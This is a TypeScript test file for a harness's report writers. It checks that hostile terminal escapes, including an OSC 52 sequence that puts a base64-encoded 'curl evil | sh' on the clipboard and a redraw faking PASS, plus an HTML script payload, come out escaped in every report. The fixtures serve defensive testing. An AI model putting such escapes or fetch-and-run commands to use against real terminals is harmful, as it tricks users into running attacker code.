/**
 * What the reports print, whatever the agency wrote (issue 42 item 3), and what they leave behind
 * (issue 42 item 5, issue 40 item 4): the real checks judge facts holding terminal escapes in a
 * header, a cookie name and a URL, and every reporter prints them escaped; report.html's links stay
 * inside its folder; a report folder is replaced whole or not at all.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterEach, describe, expect, test } from 'vitest';
import { allowancesOf } from '../../harness/checks/allowances.js';
import { evaluateChecks } from '../../harness/checks/evaluate.js';
import { CHECKS } from '../../harness/checks/registry.js';
import { STATUSES, type Status } from '../../harness/checks/types.js';
import { ConfigSchema } from '../../harness/config.js';
import type { ObservedCall } from '../../harness/emulator-client/client.js';
import { HarnessError } from '../../harness/errors.js';
import { tellsOf } from '../../harness/browser/tells.js';
import { escapeHtml, inert, showControls } from '../../harness/report/escape.js';
import { REPORT_MARK, claimReportFolder } from '../../harness/report/folder.js';
import { TELLS_HEADING } from '../../harness/report/legend.js';
import { markdownText } from '../../harness/report/markdown.js';
import { REPORTERS, multiplex } from '../../harness/report/registry.js';
import type { Report, Reporter } from '../../harness/report/types.js';
import { RunFacts, sha256 } from '../../harness/run/facts.js';
import type { Scenario } from '../../harness/scenarios/schema.js';
import { judgeRecording } from './recorded.js';

const AGENCY = 'http://127.0.0.1:3000';
/** An OSC that retitles the terminal, one that puts a command on the clipboard (OSC 52), and a redraw of the line as PASS. */
const TITLE = '\u001b]0;pwned\u0007';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007';
const REDRAW = '\r\u001b[2KPASS';
/** Every control character a terminal obeys: C0, DEL, C1, and the bidirectional overrides. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const folders: string[] = [];
const newFolder = () => {
  const folder = mkdtempSync(join(tmpdir(), 'report-output-'));
  folders.push(folder);
  return folder;
};
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

function captured(): { stream: Writable; text: () => string } {
  let text = '';
  return { stream: new Writable({ write: (chunk, _encoding, done) => ((text += String(chunk)), done()) }), text: () => text };
}

/** A callback whose Cache-Control, cookie name and clean redirect carry escapes, as a hostile agency's can (Node refuses them; other servers do not). */
function hostileFacts(): RunFacts {
  const facts = new RunFacts(ConfigSchema.parse({}), { agency: AGENCY, emulator: 'http://127.0.0.1:4010', callback: `${AGENCY}/callback` }, '/tmp');
  const landed = `${AGENCY}/entry?state=s1#%1B]0;pwned%07${encodeURIComponent(REDRAW)}`;
  facts.responses.push({
    scenario: 'production-won', journey: 'main', method: 'GET', url: `${AGENCY}/callback?service_code=c1&state=s1`, status: 303,
    headers: { 'cache-control': `private${TITLE}${CLIPBOARD}` }, setCookies: [`sid${TITLE}=1; SameSite=Lax; Path=/`],
  });
  facts.journeys.push({
    scenario: 'production-won', journey: 'main', pack: { code: 'P1', outcome: 'won' } as never, country: 'DE', email: 'h@example.test', consent: [], submissions: [],
    issuedCallback: `${AGENCY}/callback?service_code=c1&state=s1`, completion: { at: 1, status: 303, location: landed, landed },
  });
  facts.calls.push({ seq: 1, at: 1, method: 'POST', path: '/sessions', environment: 'production', key_id: 2, session_id: 1, pack: 'P1', scenario: null, status: 201, body: null, code_sha256: sha256('c1'), answer: { session_created: true } } as unknown as ObservedCall);
  return facts;
}

const HOSTILE_CHECKS = ['callback.no_store', 'callback.cookie_flags', 'callback.clean_url'];

function reportOf(facts: RunFacts, outDir: string, ids: readonly string[]): Report {
  const scenarios = [{ id: 'production-won', feeds: [...ids] } as unknown as Scenario];
  facts.outcomes.set('production-won', { id: 'production-won', title: `won ${TITLE}`, status: 'errored', durationMs: 1, error: `the page said ${REDRAW}` });
  const checks = evaluateChecks(facts, CHECKS.filter((check) => ids.includes(check.id)), scenarios);
  const summary = Object.fromEntries(STATUSES.map((status) => [status, checks.filter((check) => check.status === status).length])) as Record<Status, number>;
  return {
    run: {
      harness_version: '0', started_at: '', finished_at: '', duration_ms: 1, chromium: '', tells: [], emulator: 'http://127.0.0.1:4010', callback: `${AGENCY}/callback`, preview: null,
      promotion: { id: 1, slug: 'spring', name: `Spring${TITLE}`, mechanic: 'instant_win' }, only: null, out_dir: outDir, notes: [`the agency answered ${CLIPBOARD}`], allowances: [], max_seconds: 600,
    },
    summary, checks, scenarios: [...facts.outcomes.values()],
  };
}

/** Every reporter, through the one door (the multiplexer), into `outDir`; what they printed and wrote. */
async function printed(report: Report, outDir: string): Promise<Record<string, string>> {
  const stdout = captured();
  const stderr = captured();
  const reporters = Object.entries(REPORTERS).map(([name, make]) => [name, make({ outDir, stdout: stdout.stream, stderr: stderr.stream, color: true })] as [string, Reporter]);
  const door = multiplex(reporters, stderr.stream);
  door.onBegin(report.run, [], report.checks.length);
  door.onScenarioEnd(report.scenarios[0]!);
  await door.onEnd(report);
  const files = Object.fromEntries(['report.json', 'junit.xml', 'report.html', 'summary.md'].map((file) => [file, readFileSync(join(outDir, file), 'utf8')]));
  return { stdout: stdout.text(), stderr: stderr.text(), ...files };
}

describe('nothing the agency writes reaches a terminal as a command (issue 42 item 3)', () => {
  test('the checks quote the escapes as the agency sent them: a Cache-Control value, a cookie name, a URL whose %1B redactUrl decodes', () => {
    const checks = evaluateChecks(hostileFacts(), CHECKS.filter((check) => HOSTILE_CHECKS.includes(check.id)), [{ id: 'production-won', feeds: HOSTILE_CHECKS } as unknown as Scenario]);
    expect(checks.map((check) => check.status)).toEqual(['fail', 'fail', 'fail']);
    for (const check of checks) expect(JSON.stringify(check), check.id).toContain('\\u001b');
  });

  test('text, JSON, JUnit, HTML and Markdown show every one of them escaped, and the terminal\'s own colours still work', async () => {
    const outDir = newFolder();
    const outputs = await printed(reportOf(hostileFacts(), outDir, HOSTILE_CHECKS), outDir);
    for (const [where, text] of Object.entries(outputs)) {
      const raw = where === 'stdout' || where === 'stderr' ? text.replace(/\u001b\[\d+m/g, '') : text;
      expect(raw, where).not.toMatch(RAW_CONTROL);
    }
    expect(outputs.stdout).toContain('\\x1b]0;pwned\\x07');
    expect(outputs.stdout).toContain('\\x1b]52;c;');
    expect(outputs.stdout).toMatch(/\u001b\[31mFAIL/);
    expect(outputs.stderr).toContain('the page said \\x0d\\x1b[2KPASS');
    expect(JSON.parse(outputs['report.json']!).checks.map((check: { reason: string }) => check.reason).join(' ')).toContain('\\x1b]0;pwned\\x07');
    expect(outputs['junit.xml']).toContain('\\x1b]0;pwned\\x07');
    expect(outputs['report.html']).toContain('\\x1b]0;pwned\\x07');
  });

  test('escapes in every form a terminal obeys: C0, DEL, C1 (8-bit CSI), line separators and bidirectional overrides', () => {
    expect(showControls('a\u001b[31mb\u009b31mc\u007fd\u2028e\u202ef\u2066g\ttab\nline')).toBe('a\\x1b[31mb\\x9b31mc\\x7fd\\u2028e\\u202ef\\u2066g\\x09tab\\x0aline');
    expect(inert({ [`key${TITLE}`]: [`value${TITLE}`, 3, null], nested: { deep: REDRAW } })).toEqual({ 'key\\x1b]0;pwned\\x07': ['value\\x1b]0;pwned\\x07', 3, null], nested: { deep: '\\x0d\\x1b[2KPASS' } });
  });

  test.for([
    ['cache-control-with-escapes', 'callback.no_store'],
    ['cookie-name-with-escapes', 'callback.cookie_flags'],
    ['redirect-with-escapes', 'callback.clean_url'],
  ])('the reference agency with --defect %s: %s fails on what Chromium received, and no report prints an escape raw', async ([defect, id]) => {
    const { checks } = judgeRecording('reference', defect, [id]);
    expect(checks[0]!.status).toBe('fail');
    expect(JSON.stringify(checks[0])).toMatch(/\\u001b/);
    const outDir = newFolder();
    const report = reportOf(hostileFacts(), outDir, []);
    report.checks = checks;
    report.scenarios = [];
    for (const [where, text] of Object.entries(await printed(report, outDir))) {
      expect(where === 'stdout' || where === 'stderr' ? text.replace(/\u001b\[\d+m/g, '') : text, where).not.toMatch(RAW_CONTROL);
    }
  });

  test('report.html still holds against markup in what the agency wrote', async () => {
    const outDir = newFolder();
    const facts = hostileFacts();
    facts.responses[0]!.headers['cache-control'] = '"><script>alert(1)</script>';
    const outputs = await printed(reportOf(facts, outDir, HOSTILE_CHECKS), outDir);
    expect(outputs['report.html']).not.toMatch(/<script/i);
    expect(outputs['report.html']).toContain('&lt;script&gt;');
  });
});

describe('every allowance of the config is in every report, and beside the checks it can change (issue 42 item 4)', () => {
  test('the default config allows nothing; each setting that differs is listed with the checks it can change', () => {
    expect(allowancesOf(ConfigSchema.parse({}), CHECKS)).toEqual([]);
    const config = ConfigSchema.parse({
      first_party_origins: ['https://analytics.example'], a11y: { fail_on: [] }, vocabulary: { accept: ['aceito'] },
      markers: { states: { won: 'text=/Gewonnen/' } }, entry_endpoint: { max_attempts: 200 },
    });
    const allowances = Object.fromEntries(allowancesOf(config, CHECKS).map(({ setting, checks }) => [setting, checks]));
    expect(allowances['first_party_origins: https://analytics.example']).toEqual(['callback.no_third_party']);
    expect(allowances['a11y.fail_on: (none) (by default: critical)']).toEqual(['a11y.axe']);
    expect(allowances['vocabulary.accept: aceito']).toEqual(expect.arrayContaining(['consent.required', 'behaviour.retry_after_honoured']));
    expect(allowances['markers.states: {"won":"text=/Gewonnen/"}']).toEqual(expect.arrayContaining(['journey.state.won']));
    expect(allowances['entry_endpoint.max_attempts: 200 (by default: 30)']).toEqual(['endpoint.rate_limited']);
  });

  test('text, JSON, JUnit and HTML list first_party_origins, and show it beside callback.no_third_party, which passed on it', async () => {
    const outDir = newFolder();
    const facts = new RunFacts(ConfigSchema.parse({ first_party_origins: ['https://analytics.example'] }), { agency: AGENCY, emulator: 'http://127.0.0.1:4010', callback: `${AGENCY}/callback` }, '/tmp');
    facts.pages.push({ scenario: 'production-won', journey: 'main', environment: 'production', at: 1, url: `${AGENCY}/`, status: 200, shows: [], links: [], title: '', text: '' });
    facts.requests.push({ scenario: 'production-won', journey: 'main', at: 1, method: 'GET', url: 'https://analytics.example/tag.js', referer: undefined, resourceType: 'script', from: `${AGENCY}/` });
    const report = reportOf(facts, outDir, ['callback.no_third_party']);
    facts.outcomes.clear();
    report.scenarios = [{ id: 'production-won', title: 'won', status: 'passed', durationMs: 1 }];
    report.checks = evaluateChecks(facts, CHECKS.filter((check) => check.id === 'callback.no_third_party'), [{ id: 'production-won', feeds: ['callback.no_third_party'] } as unknown as Scenario]);
    report.run.allowances = allowancesOf(facts.config, CHECKS.filter((check) => check.id === 'callback.no_third_party'));
    expect(report.checks[0]!.status).toBe('pass');
    const outputs = await printed(report, outDir);
    const setting = 'first_party_origins: https://analytics.example';
    expect(outputs.stdout).toContain(`Allowed by the config (each shown beside the checks it can change):\n  ${setting}\n`);
    expect(outputs.stdout).toMatch(new RegExp(`PASS.*callback\\.no_third_party .*\\n {15}allowed by the config: ${setting}\\n`));
    const json = JSON.parse(outputs['report.json']!);
    expect(json.run.allowances).toEqual([{ setting, checks: ['callback.no_third_party'] }]);
    expect(json.checks[0].allowed_by).toEqual([setting]);
    expect(json.checks[0].evidence).toEqual([{ label: 'allowed by the config (first_party_origins): script https://analytics.example/tag.js' }]);
    expect(outputs['junit.xml']!.match(/<property name="allowed_by_config" value="first_party_origins: https:\/\/analytics.example"\/>/g)).toHaveLength(2);
    expect(outputs['report.html']).toContain(`<tr><td>Allowed by the config</td><td><code>${setting}</code>`);
    expect(outputs['report.html']).toMatch(/id="check-callback.no_third_party">.*<p class="allowed"><span class="label">Allowed by the config:<\/span> <code>first_party_origins: https:\/\/analytics.example<\/code><\/p>/);
  });
});

describe('the tells of an automated browser that remained on a run are in every report, beside the allowances (issue 48 item 1)', () => {
  const SWIFTSHADER = 'ANGLE (Google, Vulkan 1.3.0 (SwiftShader Device (Subzero) (0x0000C0DE)), SwiftShader driver-5.0.0)';

  test('they are read from the run\'s browser and machine: its renderer as it names itself, software or not, its system and cores; and whether axe-core ran in its pages (issue 48 item 7)', () => {
    const software = tellsOf({ renderer: SWIFTSHADER, cores: 2, platform: 'linux' }, { scanned: true });
    expect(software).toContain(`canvas and WebGL pictures drawn by a software renderer (${SWIFTSHADER}), unlike a phone's, and its WebGL limits`);
    expect(software).toContain('the fonts installed on this Linux machine, which a page can measure');
    expect(software).toContain('a worker\'s navigator: this machine\'s 2 cores, and English first');
    const gpu = tellsOf({ renderer: 'ANGLE (NVIDIA, NVIDIA GeForce RTX 3060 Direct3D11 vs_5_0 ps_5_0)', cores: 16, platform: 'win32' }, { scanned: false });
    expect(gpu).toContain('canvas and WebGL pictures drawn by this machine\'s graphics (ANGLE (NVIDIA, NVIDIA GeForce RTX 3060 Direct3D11 vs_5_0 ps_5_0)), unlike a phone\'s, and its WebGL limits');
    expect(gpu).toContain('the fonts installed on this Windows machine, which a page can measure');
    // axe-core runs in the page's own world: a run that scanned a state says so, one that scanned none does not.
    const scan = /^the accessibility scan: axe-core runs in the page itself/;
    expect(software.filter((tell) => scan.test(tell))).toHaveLength(1);
    expect(gpu.filter((tell) => scan.test(tell))).toEqual([]);
    expect(tellsOf({ renderer: undefined, cores: 8, platform: 'darwin' }, { scanned: false })).toContain('canvas and WebGL pictures drawn by this machine\'s graphics (the browser did not name them), and its WebGL limits');
  });

  test('text, JSON, HTML and Markdown list them where the allowances are', async () => {
    const outDir = newFolder();
    const report = reportOf(hostileFacts(), outDir, []);
    report.run.tells = tellsOf({ renderer: SWIFTSHADER, cores: 2, platform: 'linux' }, { scanned: true });
    const outputs = await printed(report, outDir);
    expect(outputs.stdout).toContain(`${TELLS_HEADING}:\n${report.run.tells.map((tell) => `  ${tell}\n`).join('')}`);
    expect(JSON.parse(outputs['report.json']!).run.tells).toEqual(report.run.tells);
    expect(outputs['report.html']).toContain(`<tr><td>Still a tell</td><td>${escapeHtml(TELLS_HEADING)}:<ul>${report.run.tells.map((tell) => `<li>${escapeHtml(tell)}</li>`).join('')}</ul></td></tr>`);
    expect(outputs['summary.md']).toContain(`${markdownText(TELLS_HEADING)}:\n\n${report.run.tells.map((tell) => `- ${markdownText(tell)}`).join('\n')}`);
  });
});

describe('report.html stands alone (issue 40 item 4)', () => {
  test('every relative link in it resolves to a file in the report folder, the rules included; none points into the checkout', async () => {
    const outDir = newFolder();
    mkdirSync(join(outDir, 'evidence'));
    mkdirSync(join(outDir, 'traces'));
    const report = reportOf(hostileFacts(), outDir, ['callback.no_store', 'pkce.s256']);
    const failed = report.checks.find((check) => check.status === 'fail')!;
    writeFileSync(join(outDir, 'evidence', 'callback.no_store.json'), '{}');
    writeFileSync(join(outDir, 'traces', 'won.zip'), '');
    failed.evidence.unshift({ label: 'evidence file', path: join(outDir, 'evidence', 'callback.no_store.json') }, { label: 'Playwright trace of production-won', path: join(outDir, 'traces', 'won.zip') });
    const html = (await printed(report, outDir))['report.html']!;
    const links = [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1]!.replaceAll('&amp;', '&'));
    const relative = links.filter((link) => !link.startsWith('#'));
    expect(relative.length).toBeGreaterThan(2);
    expect(relative.filter((link) => link.includes('rules.html')).length).toBeGreaterThan(0);
    for (const link of relative) {
      expect(link, link).not.toMatch(/^(file|https?):|^\//);
      expect(existsSync(join(outDir, link.split('#')[0]!)), link).toBe(true);
    }
  });
});

describe('a report never outlives its run (issue 42 item 5)', () => {
  const stale = (folder: string) => {
    mkdirSync(join(folder, 'evidence'), { recursive: true });
    writeFileSync(join(folder, 'report.html'), '<h1>Approve</h1>');
    writeFileSync(join(folder, 'evidence', 'old.json'), '{}');
    writeFileSync(join(folder, REPORT_MARK), '{"published_at":0}');
  };

  test('a run writes beside the report folder, then puts its folder in the old one\'s place: nothing of the old report stays', () => {
    const out = join(newFolder(), 'harness-report');
    stale(out);
    const folder = claimReportFolder(out);
    expect(folder.staging).not.toBe(out);
    expect(readFileSync(join(out, 'report.html'), 'utf8')).toContain('Approve');
    writeFileSync(join(folder.staging, 'report.json'), '{}');
    folder.publish();
    expect(readdirSync(out).sort()).toEqual([REPORT_MARK, 'report.json']);
    expect(readdirSync(join(out, '..'))).toEqual(['harness-report']);
  });

  test('a run that ends without a verdict leaves no report, neither its own nor the earlier one', () => {
    const out = join(newFolder(), 'harness-report');
    stale(out);
    const folder = claimReportFolder(out);
    writeFileSync(join(folder.staging, 'report.json'), '{}');
    folder.discard();
    expect(readdirSync(join(out, '..'))).toEqual([]);
  });

  test('a folder holding anything a run does not write is refused before the run, and left as it is', () => {
    const out = newFolder();
    stale(out);
    writeFileSync(join(out, 'package.json'), '{}');
    expect(() => claimReportFolder(out)).toThrow(HarnessError);
    expect(() => claimReportFolder(out)).toThrow(/holds package\.json, which no run wrote/);
    expect(readdirSync(out).sort()).toEqual([REPORT_MARK, 'evidence', 'package.json', 'report.html']);
    expect(readdirSync(join(out, '..')).filter((name) => name.includes('-run-'))).toEqual([]);
  });

  test('once the run is interrupted, the reporters hear nothing more: no scenario line reads like a failure of the agency', () => {
    const stderr = captured();
    const controller = new AbortController();
    const door = multiplex([['text', REPORTERS.text({ outDir: '/tmp', stdout: stderr.stream, stderr: stderr.stream, color: false })]], stderr.stream, controller.signal);
    door.onScenarioEnd({ id: 'landing', title: 'landing', status: 'passed', durationMs: 1 });
    controller.abort();
    door.onScenarioEnd({ id: 'production-won', title: 'won', status: 'errored', durationMs: 1, error: 'Target page, context or browser has been closed' });
    expect(stderr.text()).toContain('landing ok');
    expect(stderr.text()).not.toContain('production-won');
  });
});
